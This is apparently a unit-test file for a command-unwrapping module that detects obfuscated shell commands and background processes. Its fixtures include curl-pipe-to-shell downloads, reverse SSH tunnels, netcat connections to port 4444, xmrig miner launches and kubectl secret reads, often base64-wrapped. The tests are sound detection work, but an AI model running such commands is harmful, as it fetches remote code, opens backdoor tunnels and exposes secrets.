// Unit tests of command unwrapping: quoting, variables, escapes, base64, backgrounding, API operations.
import { describe, expect, it } from 'vitest';
import { expandVariables, kebabOperation, mentionsPort, mentionsToken, runsKubernetesOperation, searchableCommand, startsBackgroundProcess, unquote } from '../../src/attribution/command.js';

const b64 = (s: string) => Buffer.from(s).toString('base64');

describe('searchableCommand()', () => {
  it('decodes a base64 payload piped to sh inside bash -lc', () => {
    const text = searchableCommand(`bash -lc 'echo ${b64('curl -s http://203.0.113.77:8080/x')} | base64 -d | sh'`);
    expect(mentionsToken(text, '203.0.113.77')).toBe(true);
  });

  it('decodes nested base64 (a script that holds base64)', () => {
    const inner = b64('ssh -R 2222:localhost:22 tunnel@203.0.113.47');
    const text = searchableCommand(`echo ${b64(`echo ${inner} | base64 -d | bash`)} | base64 -d | sh`);
    expect(text).toContain('ssh -r 2222:localhost:22 tunnel@203.0.113.47');
  });

  it('reads through the POSIX single quoting agent parsers apply to argv elements', () => {
    const text = searchableCommand(`bash -lc 'curl -sk '\\''https://updates.cdn-sync.example/p.sh'\\'' | sh'`);
    expect(text).toContain('curl -sk https://updates.cdn-sync.example/p.sh | sh');
  });

  it('reads through the double quoting k8s and auditd apply, with backslash-split words', () => {
    const text = searchableCommand(`bash -c "s\\sh -f -N -\\R 9001:localhost:22 'tun'@\\"203.0.113.140\\""`);
    expect(text).toContain('ssh -f -n -r 9001:localhost:22 tun@203.0.113.140');
  });

  it('substitutes shell variables that build an address', () => {
    const text = searchableCommand(`sh -c 'NET=203.0.113; H="$NET.88"; P=4444; nc -w 3 "$H" $P'`);
    expect(mentionsToken(text, '203.0.113.88')).toBe(true);
    expect(mentionsPort(text, 4444)).toBe(true);
  });

  it("decodes ANSI-C $'\\x..' escapes", () => {
    const hex = [...'198.51.100.14'].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
    expect(mentionsToken(searchableCommand(`curl "http://"$'${hex}'":9000/x"`), '198.51.100.14')).toBe(true);
  });

  it('ignores base64-looking tokens that do not decode to text', () => {
    const text = searchableCommand('sha256sum model.bin # 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08');
    expect(text.split('\n')).toHaveLength(1);
  });
});

describe('unquote() and expandVariables()', () => {
  it('unquote() removes single, double and ANSI-C quoting', () => {
    expect(unquote(`echo 'a b' "c \\"d\\"" $'e\\tf'`)).toBe('echo a b c "d" e\tf');
  });
  it('expandVariables() returns undefined when nothing is assigned', () => {
    expect(expandVariables('curl http://$HOST/')).toBeUndefined();
    expect(expandVariables('HOST=x.example; curl http://${HOST}/')).toBe('HOST=x.example; curl http://x.example/');
  });
});

describe('mentionsToken() and mentionsPort()', () => {
  it('matches whole addresses only', () => {
    expect(mentionsToken('ping 10.0.0.10', '10.0.0.1')).toBe(false);
    expect(mentionsToken('curl http://10.0.0.1:80/', '10.0.0.1')).toBe(true);
    expect(mentionsToken('curl https://api.pool.example/', 'pool.example')).toBe(false);
  });
  it('matches a port after a colon, a flag or a space', () => {
    expect(mentionsPort('nc host 4444', 4444)).toBe(true);
    expect(mentionsPort('curl http://h:8080/', 8080)).toBe(true);
    expect(mentionsPort('echo 44445', 4444)).toBe(false);
  });
});

describe('startsBackgroundProcess()', () => {
  it.each([
    'nohup ./xmrig -o pool:3333 >/dev/null 2>&1 &',
    './tools/kworker -o pool.example:3333 & sleep 1; echo ok',
    'setsid ./agent',
    'autossh -M 0 -f -N -R 2222:localhost:22 t@203.0.113.47',
    'ssh -fN -R 9000:localhost:22 t@203.0.113.47',
    'docker run -d --rm miner:latest',
    'tmux new -s m -d ./run.sh',
    './xmrig --background -o pool:3333',
    `bash -lc 'echo ${b64('nohup ./m >/dev/null 2>&1 &')} | base64 -d | sh'`,
  ])('is true for %s', (cmd) => {
    expect(startsBackgroundProcess(cmd)).toBe(true);
  });
  it.each([
    'make && make test',
    'python train.py 2>&1 | tee log.txt',
    'curl "https://example.com/?a=1&b=2"',
    'ls &> /dev/null',
    'ssh -o ConnectTimeout=5 deploy@203.0.113.9 true',
  ])('is false for %s', (cmd) => {
    expect(startsBackgroundProcess(cmd)).toBe(false);
  });
});

describe('API operations', () => {
  it('kebabOperation() spells an operation as the AWS CLI does', () => {
    expect(kebabOperation('ListSecrets')).toBe('list-secrets');
    expect(kebabOperation('GetBucketPolicy')).toBe('get-bucket-policy');
    expect(kebabOperation('DescribeDBInstances')).toBe('describe-db-instances');
  });
  it('runsKubernetesOperation() maps audit verbs to kubectl', () => {
    expect(runsKubernetesOperation('kubectl -n prod get secrets -o yaml', 'list secrets')).toBe(true);
    expect(runsKubernetesOperation('kubectl get secret db-pass', 'get secrets')).toBe(true);
    expect(runsKubernetesOperation('kubectl get pods', 'list secrets')).toBe(false);
    expect(runsKubernetesOperation('kubectl exec -it web-0 -- sh', 'create pods/exec')).toBe(true);
    expect(runsKubernetesOperation('get secrets', 'list secrets')).toBe(false);
  });
});
